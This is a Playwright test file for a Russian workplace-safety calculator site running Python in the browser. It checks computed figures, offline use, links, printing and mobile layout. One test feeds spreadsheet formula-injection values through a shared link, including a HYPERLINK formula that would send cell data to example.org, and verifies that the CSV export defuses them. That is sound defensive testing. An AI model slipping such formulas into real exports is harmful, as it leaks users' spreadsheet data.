"""The calculators in Debian's Chromium: Python (Pyodide) in a module worker, from the site's own files.

Every figure is compared with what CPython computes from the same declarations
(``calculators.web.view``): the page must show exactly the text and carry exactly the value.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
from pathlib import Path
from urllib.parse import urlencode, urlparse

import pytest
from playwright.sync_api import TimeoutError as PlaywrightTimeout

from build_tools.calculator_site.calculator_forms import form_raw, form_values
from build_tools.exports.export_tabular import FORMULA_STARTS
from calculators import display
from calculators.registry import CALCULATORS
from calculators.web import view
from tests.sites import serve

pytestmark = pytest.mark.browser

# Python starts in about 3.5 s cold on this machine; a loaded CI machine may take several times that.
LIVE_TIMEOUT_MS = 90_000


def page_path(calculator_id: str) -> str:
    return f"calculators/{calculator_id}/"


def wait_live(page, calculator_id: str) -> None:
    page.wait_for_selector(f'form[data-calculator="{calculator_id}"][data-status="live"]', timeout=LIVE_TIMEOUT_MS)


def shown_outputs(page, calculator_id: str) -> dict[str, tuple[str, str]]:
    """Each scalar output on the page: (text shown, exact value carried)."""
    return page.eval_on_selector_all(
        f'form[data-calculator="{calculator_id}"] output[data-output]',
        "outputs => Object.fromEntries(outputs.map(o => [o.dataset.output, [o.textContent, o.dataset.value]]))",
    )


def expected_outputs(calculator_id: str, raw: dict) -> dict[str, tuple[str, object]]:
    calculator = CALCULATORS[calculator_id]
    # What the form sends: the values as the form writes them (text), as the page does.
    described = view(calculator, form_raw(calculator.inputs, form_values(calculator.inputs, raw)))
    return {
        output_id: (output["shown"], described["result"][output_id])
        for output_id, output in described["outputs"].items()
        if isinstance(output["shown"], str)
    }


def assert_same_as_cpython(page, calculator_id: str, raw: dict) -> None:
    expected = expected_outputs(calculator_id, raw)
    # The worker answers a moment after the input changes: wait until every figure agrees (or
    # time out), then compare each, so that a failure names the figure.
    texts = {output_id: text for output_id, (text, _) in expected.items()}
    with contextlib.suppress(PlaywrightTimeout):
        page.wait_for_function(
            """([calc, texts]) => Object.entries(texts).every(([id, text]) => {
                 const o = document.querySelector(`form[data-calculator='${calc}'] output[data-output='${id}']`);
                 return !o || o.textContent === text; })""",
            arg=[calculator_id, texts],
            timeout=LIVE_TIMEOUT_MS,
        )
    shown = shown_outputs(page, calculator_id)
    # Every figure CPython shows as text is on the page (a table's cells are checked through the
    # scalar outputs they feed), and nothing else: a page that rendered no output fails here.
    assert expected and set(shown) == set(expected), (calculator_id, sorted(set(expected) ^ set(shown)))
    for output_id, (text, value) in expected.items():
        page_text, page_value = shown[output_id]
        assert page_text == text, (calculator_id, output_id)
        assert json.loads(page_value) == value, (calculator_id, output_id)


@pytest.mark.parametrize("calculator_id", list(CALCULATORS))
def test_every_example_gives_exactly_the_cpython_figures(page, fixture_url: str, calculator_id: str):
    # One page per calculator (Python starts once), every example chosen in turn.
    calculator = CALCULATORS[calculator_id]
    assert calculator.examples
    page.goto(fixture_url + page_path(calculator_id))
    wait_live(page, calculator_id)
    for example in calculator.examples:
        page.select_option(f'form[data-calculator="{calculator_id}"] select[data-action="example"]', example.id)
        assert_same_as_cpython(page, calculator_id, dict(example.inputs))


def test_the_first_paint_already_shows_a_true_result(browser, fixture_url: str) -> None:
    # No Python at all: the default example was computed at build time by the same code.
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    try:
        page.goto(fixture_url + page_path("coefficients"))
        calculator = CALCULATORS["coefficients"]
        raw = dict(calculator.examples[0].inputs)
        shown = shown_outputs(page, "coefficients")
        expected = expected_outputs("coefficients", raw)
        assert expected and set(shown) == set(expected), sorted(set(expected) ^ set(shown))
        for output_id, (text, _) in expected.items():
            assert shown[output_id][0] == text, output_id
        # Shown as an example: labelled, and its values only grey hints in empty fields.
        form = page.locator('form[data-calculator="coefficients"]')
        assert form.locator("[data-example-note]").is_visible()
        assert form.locator("[data-example-note]").inner_text().startswith("Пример")
        victims = form.locator('input[name="victims"]')
        assert victims.input_value() == ""
        assert victims.get_attribute("placeholder") == display.entered(raw["victims"])
        assert form.locator('input[name="hours_worked"]').get_attribute("placeholder") == display.entered(612000)
    finally:
        context.close()


def test_bad_input_gets_the_python_message_beside_the_field(page, fixture_url: str) -> None:
    page.goto(fixture_url + page_path("coefficients"))
    wait_live(page, "coefficients")
    field = page.locator('form[data-calculator="coefficients"] input[name="headcount"]')
    field.fill("-5")
    calculator = CALCULATORS["coefficients"]
    # The form starts blank: only the typed field goes to Python.
    described = view(calculator, {"headcount": "-5"})
    # The refused field blanks only the figures computed from it (the engine's rule).
    assert any(item["kind"] == "rejected" for item in described["result"]["messages"])
    messages = [item["text"] for item in described["result"]["messages"] if item.get("input") == "headcount"]
    assert messages, described["result"]["messages"]
    # The message sits in the field's own slot, in Russian, and the field is marked invalid.
    slot = page.locator('[data-field="headcount"] [data-message-slot]')
    slot.get_by_text(messages[0]).wait_for(timeout=LIVE_TIMEOUT_MS)
    assert field.get_attribute("aria-invalid") == "true"
    assert "NaN" not in page.locator('form[data-calculator="coefficients"]').inner_text()


def test_no_request_leaves_127_0_0_1(page, fixture_url: str) -> None:
    hosts: set[str] = set()
    page.on("request", lambda request: hosts.add(urlparse(request.url).hostname or ""))
    for calculator_id in CALCULATORS:
        page.goto(fixture_url + page_path(calculator_id))
        wait_live(page, calculator_id)
    assert hosts == {"127.0.0.1"}


def test_pages_without_a_calculator_start_no_python(page, fixture_url: str) -> None:
    urls: list[str] = []
    page.on("request", lambda request: urls.append(request.url))
    page.goto(fixture_url + "catalogue/")
    page.wait_for_load_state("networkidle")
    assert not [url for url in urls if "pyodide" in url or url.endswith(".whl")]


def test_a_blocked_wasm_file_shows_the_error_and_the_retry_and_keeps_the_input(page, fixture_url: str) -> None:
    page.route("**/*.wasm", lambda route: route.abort())
    page.goto(fixture_url + page_path("coefficients"))
    form = page.locator('form[data-calculator="coefficients"]')
    field = form.locator('input[name="victims"]')
    field.fill("7")
    page.wait_for_selector('form[data-calculator="coefficients"][data-status="error"]', timeout=LIVE_TIMEOUT_MS)
    retry = form.locator('[data-action="retry"]')
    assert retry.is_visible()
    status = form.locator("[data-status-text]").inner_text()
    assert "Python" in status or "расчёт" in status.lower(), status
    assert field.input_value() == "7"
    # The network is back: the retry starts Python and the kept input is computed.
    page.unroute("**/*.wasm")
    retry.click()
    wait_live(page, "coefficients")
    assert field.input_value() == "7"
    assert_same_as_cpython(page, "coefficients", {"victims": 7})


def test_after_one_visit_the_calculator_works_with_the_server_stopped(browser, fixture_site: Path) -> None:
    context = browser.new_context(service_workers="allow")
    page = context.new_page()
    try:
        with serve(fixture_site) as url:
            page.goto(url + page_path("coefficients"))
            wait_live(page, "coefficients")
            # The service worker says when Pyodide, the wheel and the page are in its cache.
            ready = 'form[data-calculator="coefficients"][data-offline="ready"]'
            page.wait_for_selector(ready, timeout=LIVE_TIMEOUT_MS)
        page.reload()
        wait_live(page, "coefficients")
        page.locator('form[data-calculator="coefficients"] input[name="victims"]').fill("5")
        assert_same_as_cpython(page, "coefficients", {"victims": 5})
    finally:
        context.close()


def test_a_result_can_be_shared_as_a_link(page, browser, fixture_url: str) -> None:
    page.goto(fixture_url + page_path("coefficients"))
    wait_live(page, "coefficients")
    page.locator('form[data-calculator="coefficients"] input[name="victims"]').fill("9")
    page.wait_for_function("new URLSearchParams(location.search).get('victims') === '9'")
    shared = page.url
    other = browser.new_context().new_page()
    try:
        other.goto(shared)
        assert other.locator('form[data-calculator="coefficients"] input[name="victims"]').input_value() == "9"
        wait_live(other, "coefficients")
        assert_same_as_cpython(other, "coefficients", {"victims": 9})
    finally:
        other.context.close()


def test_self_assessment_answers_stay_in_this_browser_only(page, fixture_url: str) -> None:
    page.goto(fixture_url + page_path("vision_zero"))
    wait_live(page, "vision_zero")
    page.locator('input[name="measure_1"][value="no"]').check()
    page.wait_for_function("Object.keys(localStorage).some(key => localStorage.getItem(key).includes('measure_1'))")
    assert "measure_1" not in page.url  # the answers are not put in a link that could be shared by mistake
    page.reload()
    assert page.locator('input[name="measure_1"][value="no"]').is_checked()
    text = page.locator("main").inner_text()
    assert "хранятся только в этом браузере" in text or "только в вашем браузере" in text, "the page must say so"


def test_a_practice_card_link_opens_the_economics_calculator_with_the_cards_numbers(page, fixture_url: str) -> None:
    # What a card page will link to: the card's cost and its annual savings in the address.
    from calculators.economics import practice_effects

    metric = {
        "name": "Потери от травматизма",
        "unit": "руб.",
        "before": 1200000,
        "after": 400000,
        "period_before": 2023,
        "period_after": 2024,
    }
    (effect,) = practice_effects({"amount": 180000}, [metric])
    page.goto(fixture_url + page_path("economics") + "?" + effect.calculator_query)
    form = page.locator('form[data-calculator="economics"]')
    assert form.locator('input[name="investment"]').input_value() == "180000"
    assert form.locator('input[name="annual_savings"]').input_value() == "800000"
    # Only the card's numbers: the example's figures are not mixed in.
    assert form.locator('input[name="prevention_costs"]').input_value() == ""
    wait_live(page, "economics")
    assert_same_as_cpython(page, "economics", {"investment": 180000, "annual_savings": 800000})
    # 180 000 / 800 000 = 0,225 years, shown as the card page will show it.
    payback = form.locator('output[data-output="payback_years"]')
    assert payback.text_content() == display.number(effect.payback_years, 2) == "0,23"
    assert form.locator('[data-also-for="payback_years"]').text_content() == "2,7 мес."


def test_economics_sums_the_lines_and_names_a_refused_field(page, fixture_url: str) -> None:
    page.goto(fixture_url + page_path("economics"))
    wait_live(page, "economics")
    form = page.locator('form[data-calculator="economics"]')
    form.locator('[data-action="fill-example"]').click()
    form.locator('input[name="prevention_costs"]').fill("")
    form.locator('input[name="cost_ppe"]').fill("250 000,5")
    form.locator('input[name="cost_training"]').fill("49 999,5")
    raw = {**dict(CALCULATORS["economics"].examples[0].inputs), "cost_ppe": "250 000,5", "cost_training": "49 999,5"}
    del raw["prevention_costs"]
    assert_same_as_cpython(page, "economics", raw)
    # 900 000 / (250 000,5 + 49 999,5) = 3; the note says where the costs came from.
    assert form.locator('output[data-output="rop"]').text_content() == "3,00"
    form.locator('[data-messages-for="rop"]').get_by_text("взята сумма строк затрат (300\u00a0000,00 руб.)").wait_for()
    field = form.locator('input[name="annual_savings"]')
    field.fill("-5")
    slot = form.locator('[data-field="annual_savings"] [data-message-slot]')
    slot.get_by_text("«Годовая экономия»: не может быть отрицательным, получено -5").wait_for(timeout=LIVE_TIMEOUT_MS)
    assert field.get_attribute("aria-invalid") == "true"
    # Only the figures computed from the refused field go blank: the payback, not the return.
    assert form.locator('output[data-output="payback_years"]').text_content() == "—"
    assert form.locator('output[data-output="rop"]').text_content() == "3,00"


def test_a_shared_link_cannot_put_a_live_formula_in_the_csv(page, fixture_url: str) -> None:
    # A link can set any input to any text; a spreadsheet would run «=HYPERLINK(…)» as a formula.
    formula = '=HYPERLINK("http://example.org/?"&A1;"Открыть")'
    query = urlencode({"victims": formula, "headcount": "+1", "fatal_victims": "@SUM(1)"})
    page.goto(f"{fixture_url}{page_path('coefficients')}?{query}")
    wait_live(page, "coefficients")
    with page.expect_download() as download_info:
        page.click('form[data-calculator="coefficients"] [data-action="csv"]')
    text = Path(download_info.value.path()).read_bytes().decode("utf-8-sig")
    # «;» between cells, as Russian spreadsheet programs expect (and as the site's exports write).
    assert text.startswith("Раздел;Показатель;Значение;Единица;Формула;Точное значение\r\n")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert {len(row) for row in rows} == {6}
    cells = [cell for row in rows for cell in row]
    assert "'" + formula in cells and "'+1" in cells and "'@SUM(1)" in cells
    # The exports' guard, character for character: no cell starts a formula.
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


# What a reader types on each calculator: a few fields, never the whole form. Expected figures
# come from CPython given exactly these fields (nothing of the example).
def _seed_rows_with_first_filled() -> dict:
    preset = CALCULATORS["zero_injury"].presets[0]
    rows = [dict(row) for row in preset.inputs["indicators"]]
    rows[0] = {**rows[0], "base": "2,5", "plan": "2", "current": "1,8"}
    return {**dict(preset.inputs), "indicators": rows}


TYPED = {
    "coefficients": ({"victims": "122", "headcount": "12 000", "days_lost": "1 130"}, None),
    "contest": ({"reporting_year": "2024", "headcount": "180", "victims": "2"}, None),
    "economics": ({"days_lost": "40", "day_cost": "3 500"}, None),
    "vision_zero": ({"measure_1": "yes", "measure_2": "no"}, None),
    "zero_injury": ({"base": "2,5", "plan": "2", "current": "1,8"}, _seed_rows_with_first_filled),
}


def type_into(page, calculator_id: str, values: dict) -> None:
    form = page.locator(f'form[data-calculator="{calculator_id}"]')
    for name, value in values.items():
        controls = form.locator(f'[name="{name}"]')
        if controls.first.get_attribute("type") == "radio":
            form.locator(f'[name="{name}"][value="{value}"]').check()
        else:
            controls.first.fill(value)


@pytest.mark.parametrize("calculator_id", list(TYPED))
def test_typing_a_few_fields_computes_from_those_fields_only(page, fixture_url: str, calculator_id: str) -> None:
    typed, full = TYPED[calculator_id]
    page.goto(fixture_url + page_path(calculator_id))
    wait_live(page, calculator_id)
    form = page.locator(f'form[data-calculator="{calculator_id}"]')
    assert form.locator("[data-example-note]").is_visible()
    type_into(page, calculator_id, typed)
    assert not form.locator("[data-example-note]").is_visible()
    assert form.get_attribute("data-showing") == "own"
    raw = full() if full else typed
    assert_same_as_cpython(page, calculator_id, raw)
    # And not what the example gives: some figure differs from the example's (the check bites).
    example = expected_outputs(calculator_id, dict(CALCULATORS[calculator_id].examples[0].inputs))
    assert any(shown_outputs(page, calculator_id)[key][0] != text for key, (text, _) in example.items())


def test_coefficients_from_three_typed_fields(page, fixture_url: str) -> None:
    # The reader: 122 victims, 12 000 workers, 1 130 days lost, nothing else.
    page.goto(fixture_url + page_path("coefficients"))
    wait_live(page, "coefficients")
    type_into(page, "coefficients", TYPED["coefficients"][0])
    form = page.locator('form[data-calculator="coefficients"]')
    frequency = form.locator('output[data-output="frequency"]')
    # 122 / 12 000 × 1000 = 10,1666… → «10,17»; no hours were typed, so no TRIR or LTIFR.
    page.wait_for_function(
        "document.querySelector(\"output[data-output='frequency']\").textContent === '10,17'", timeout=LIVE_TIMEOUT_MS
    )
    assert frequency.text_content() == "10,17"
    # Blank fatal cases count as 0 for Кт, and the result says so: 1 130 / (122 − 0) = 9,262… → «9,26».
    assert form.locator('output[data-output="severity"]').text_content() == "9,26"
    form.locator('[data-messages-for="severity"]').get_by_text("погибших: 0 — поле не заполнено").wait_for()
    assert form.locator('output[data-output="trir"]').text_content() == "—"
    assert form.locator('output[data-output="ltifr"]').text_content() == "—"


def test_the_link_holds_only_what_was_typed_or_the_example_filled_on_purpose(page, fixture_url: str) -> None:
    page.goto(fixture_url + page_path("coefficients"))
    wait_live(page, "coefficients")
    form = page.locator('form[data-calculator="coefficients"]')
    type_into(page, "coefficients", TYPED["coefficients"][0])
    # The link follows each field as the page handles it: wait for the last one typed.
    page.wait_for_function("new URLSearchParams(location.search).get('days_lost') === '1 130'")
    params = page.evaluate("Object.fromEntries(new URLSearchParams(location.search))")
    assert params == {"victims": "122", "headcount": "12 000", "days_lost": "1 130"}
    # «Заполнить примером» fills every field of the example, says so, and the link follows.
    form.locator('[data-action="fill-example"]').click()
    example = CALCULATORS["coefficients"].examples[0]
    assert form.locator('input[name="fatal_victims"]').input_value() == str(example.inputs["fatal_victims"])
    assert example.title in form.locator("[data-filled-note]").inner_text()
    page.wait_for_function("new URLSearchParams(location.search).get('hours_worked') === '612000'")
    assert_same_as_cpython(page, "coefficients", dict(example.inputs))
    # Cleared: nothing typed, no parameter, the example shown as an example again.
    form.locator('[data-action="clear"]').click()
    page.wait_for_function("location.search === ''")
    assert form.locator("[data-example-note]").is_visible()
    assert form.locator("[data-filled-note]").is_hidden()


def test_the_browser_writes_numbers_by_pythons_rule(page, fixture_url: str) -> None:
    # The page's own copy of the rule (its form data), applied by the page's own module to the
    # samples Python formatted: every text must be Python's, character for character.
    page.goto(fixture_url + page_path("zero_injury"))
    rules = display.rules()
    got = page.evaluate(
        """async ([samples, percents]) => {
             const data = JSON.parse(document.querySelector("script[data-calculator-data]").textContent);
             const script = document.querySelector('script[type="module"][src*="calculator-page"]').src;
             const numbers = await import(new URL("calculator/numbers.mjs", script).href);
             const style = data.number_style;
             return [samples.map(([value, decimals]) => numbers.formatNumber(value, decimals, style)),
                     percents.map(([value, decimals]) => numbers.formatPercent(value, decimals, style))];
           }""",
        [rules["samples"], rules["percent_samples"]],
    )
    assert rules["samples"] and rules["percent_samples"]
    assert got[0] == [text for _, _, text in rules["samples"]]
    assert got[1] == [text for _, _, text in rules["percent_samples"]]


def test_chart_labels_use_the_same_number_style(page, fixture_url: str) -> None:
    page.goto(fixture_url + page_path("zero_injury"))
    wait_live(page, "zero_injury")
    form = page.locator('form[data-calculator="zero_injury"]')
    form.locator('[data-action="fill-example"]').click()
    chart = form.locator('[data-chart="plan-actual"]')
    # The first indicator of the example: X0 2,5, plan 2, current 1,8 — one decimal for the chart.
    chart.get_by_text("X0 = 2,5").first.wait_for(timeout=LIVE_TIMEOUT_MS)
    labels = chart.locator("svg").first.locator("text").all_text_contents()
    assert "2,0" in labels and "1,8" in labels, labels


@pytest.mark.parametrize("calculator_id", list(CALCULATORS))
def test_a_filled_calculator_prints_on_at_most_two_pages(page, fixture_url: str, calculator_id: str) -> None:
    page.goto(fixture_url + page_path(calculator_id))
    wait_live(page, calculator_id)
    form = page.locator(f'form[data-calculator="{calculator_id}"]')
    form.locator('[data-action="fill-example"]').click()
    assert_same_as_cpython(page, calculator_id, dict(CALCULATORS[calculator_id].examples[0].inputs))
    pdf = page.pdf(format="A4")
    pages = len(re.findall(rb"/Type\s*/Page[^s]", pdf))
    assert 1 <= pages <= 2, pages
    # On paper: the inputs and results, not the reference part of the page or its buttons.
    page.emulate_media(media="print")
    assert form.locator("output[data-output]").first.is_visible()
    assert not page.locator("h2", has_text="Источники").is_visible()
    assert not form.locator('[data-action="csv"]').is_visible()


@pytest.mark.parametrize("calculator_id", list(CALCULATORS))
def test_on_a_phone_the_results_stay_in_view_and_nothing_scrolls_sideways(browser, fixture_url: str, calculator_id):
    context = browser.new_context(viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True)
    page = context.new_page()
    try:
        page.goto(fixture_url + page_path(calculator_id))
        wait_live(page, calculator_id)
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
        form = page.locator(f'form[data-calculator="{calculator_id}"]')
        form.locator('[data-action="fill-example"]').click()
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
        # Typing in the first field: the key results are on the screen beside it, and they are
        # the live figures (the same text as in the full results below).
        field = form.locator("input.calc-input[type=text], input[type=radio]").first
        field.scroll_into_view_if_needed()
        field.focus()
        summary = form.locator("[data-summary]")
        box = summary.bounding_box()
        assert box is not None and box["y"] >= 0 and box["y"] + box["height"] <= 844, box
        first = summary.locator("output[data-summary-of]").first
        output_id = first.get_attribute("data-summary-of")
        results = form.locator(f'output[data-output="{output_id}"]')
        assert first.text_content() == results.text_content()
    finally:
        context.close()
